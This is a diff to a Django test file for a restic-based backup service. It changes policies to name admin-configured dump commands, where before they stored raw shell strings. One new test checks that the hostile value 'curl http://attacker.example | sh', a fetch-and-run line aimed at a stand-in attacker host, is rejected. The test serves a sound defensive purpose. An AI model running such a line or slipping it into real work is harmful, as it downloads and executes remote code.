@@ -223,9 +223,13 @@ def test_unreachable_paths_fail_before_restic_runs(repos: Any, tmp_path: Path) -
     assert not outcome.ok and "cannot reach" in outcome.message
 
 
-def test_a_dump_command_is_backed_up_and_a_failing_dump_leaves_no_snapshot(repos: Any, tmp_path: Path) -> None:
+def test_a_dump_command_is_backed_up_and_a_failing_dump_leaves_no_snapshot(repos: Any, settings: Any) -> None:
+    settings.CMDB_BACKUP_DUMP_COMMANDS = {
+        "schema": "printf 'CREATE TABLE t (x int);\\n'",
+        "broken": "printf 'half a dump'; echo 'pg_dump: error: connection refused' >&2; exit 3",
+    }
     assert services.init_repository(repos.primary).ok
-    policy = repos.Policy(name="dump", dump_command="printf 'CREATE TABLE t (x int);\\n'", repository=repos.primary)
+    policy = repos.Policy(name="dump", dump_command="schema", repository=repos.primary)
     policy.validated_save()
     outcome = services.run_backup(policy)
     assert outcome.ok, outcome.message
@@ -233,9 +237,19 @@ def test_a_dump_command_is_backed_up_and_a_failing_dump_leaves_no_snapshot(repos
                             env={**os.environ, "RESTIC_PASSWORD": PASSWORD}, capture_output=True, check=True).stdout
     assert dumped == b"CREATE TABLE t (x int);\n"
 
-    policy.dump_command = "printf 'half a dump'; echo 'pg_dump: error: connection refused' >&2; exit 3"
+    policy.dump_command = "broken"
     policy.validated_save()
     failed = services.run_backup(policy)
     assert not failed.ok and "exit 3" in failed.message and "connection refused" in failed.message
     listed = json.loads(restic_cli(repos.primary.repo_url, PASSWORD, "snapshots", "--json"))
     assert [s["id"] for s in listed] == [outcome.details["snapshot_id"]]  # the half dump was forgotten
+
+
+def test_a_policy_names_a_dump_command_it_cannot_write_one(repos: Any, settings: Any) -> None:
+    from django.core.exceptions import ValidationError
+
+    settings.CMDB_BACKUP_DUMP_COMMANDS = {"schema": "true"}
+    policy = repos.Policy(name="evil", dump_command="curl http://attacker.example | sh", repository=repos.primary)
+    with pytest.raises(ValidationError) as caught:
+        policy.validated_save()
+    assert "dump_command" in caught.value.message_dict and "schema" in caught.value.message_dict["dump_command"][0]
